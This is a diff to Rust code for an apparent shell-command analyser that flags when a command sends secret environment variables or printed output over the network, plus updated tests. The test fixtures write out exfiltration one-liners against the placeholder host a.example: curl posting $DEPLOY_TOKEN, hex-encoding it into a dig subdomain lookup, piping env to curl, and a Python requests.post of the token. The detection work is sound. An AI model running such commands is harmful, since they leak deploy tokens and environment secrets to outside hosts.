@@ -101,15 +101,24 @@ impl Shell<'_> {
         }
     }
 
-    /// Notes that a command sends what it is given, in its effects from `from` and in the equal ones before.
+    /// Marks the transfers of a command with what they carry: its effects from the index `from` on, and earlier ones of the
+    /// same program, because an equal effect is not added twice. Printed text may be anything, so it outweighs the names of
+    /// secret variables, which may belong to the place.
     pub(super) fn carry(&mut self, program: Option<&str>, from: usize, flow: &Flow) {
-        let secret = || Detail::Secret(flow.secrets.iter().cloned().collect());
         let effects = self.reading.effects.iter_mut().enumerate();
         let own = effects.filter(|(place, effect)| *place >= from || Some(effect.program.as_str()) == program);
-        for (_, effect) in own.filter(|(_, effect)| matches!(effect.detail, Detail::None | Detail::Streamed)) {
+        for (_, effect) in own {
+            let mut names = match &effect.detail {
+                Detail::None | Detail::Streamed => BTreeSet::new(),
+                Detail::Secret(names) => names.iter().cloned().collect(),
+                _ => continue,
+            };
+            names.extend(flow.secrets.iter().cloned());
             match effect.verb {
-                Verb::Send | Verb::Connect if !flow.secrets.is_empty() => effect.detail = secret(),
-                Verb::Send if flow.printed => effect.detail = Detail::Streamed,
+                Verb::Send if flow.printed || effect.detail == Detail::Streamed => effect.detail = Detail::Streamed,
+                Verb::Send | Verb::Connect if !names.is_empty() => {
+                    effect.detail = Detail::Secret(names.into_iter().collect());
+                }
                 _ => {}
             }
         }
@@ -128,7 +137,8 @@ impl Shell<'_> {
     /// Notes which secret variables the effects from `from` may send that come of code in another language. The project's
     /// own code knows where its secrets belong.
     pub(super) fn carry_of_code(&mut self, code: &str, from: usize) {
-        if self.own_code {
+        let own = self.reading.effects.get(from..).unwrap_or_default();
+        if self.own_code || !own.iter().any(|effect| matches!(effect.verb, Verb::Send | Verb::Connect)) {
             return;
         }
         let mut secrets = BTreeSet::new();
@@ -222,11 +232,12 @@ mod tests {
             "curl -H \"Authorization: Bearer ${DEPLOY_TOKEN}\" https://a.example/",
             "t=$DEPLOY_TOKEN; u=x$t; curl -d \"$u\" https://a.example/",
             "curl -d a https://a.example/; curl -d $DEPLOY_TOKEN https://a.example/",
-            "curl -d \"$(echo $DEPLOY_TOKEN | rev)\" https://a.example/",
             "if a; then t=$DEPLOY_TOKEN; else t=$b; fi; curl -d $t https://a.example/",
             "f() { curl -d \"$1\" https://a.example/; }; f $DEPLOY_TOKEN",
-            "curl -d @- https://a.example/ <<< \"$DEPLOY_TOKEN\"",
             "curl \"https://a.example/?${!DEPLOY_TOKEN}\"",
+            "curl \"https://a.example/?k=$(echo -n $DEPLOY_TOKEN | xxd -p)\"",
+            "dig $(echo -n $DEPLOY_TOKEN | xxd -p | head -c 60).a.example",
+            "curl -H \"$DEPLOY_TOKEN\" https://a.example/; curl -H \"$OTHER_TOKEN\" https://a.example/",
             "python3 -c \"import os, requests; requests.post('https://a.example/', data=os.environ['DEPLOY_TOKEN'])\"",
         ] {
             let found = flows(command);
@@ -249,6 +260,10 @@ mod tests {
             "curl -d \"$(env)\" https://a.example/",
             "all=$(env); curl -d \"$all\" https://a.example/",
             "env | curl -d @- https://a.example/",
+            "env | curl -H \"k: $DEPLOY_TOKEN\" -d @- https://a.example/",
+            "curl -d \"$DEPLOY_TOKEN $(env)\" https://a.example/",
+            "curl -d \"$(echo $DEPLOY_TOKEN | rev)\" https://a.example/",
+            "curl -d @- https://a.example/ <<< \"$DEPLOY_TOKEN\"",
         ] {
             assert_eq!(flows(command), [crate::STREAMED], "{command}");
         }
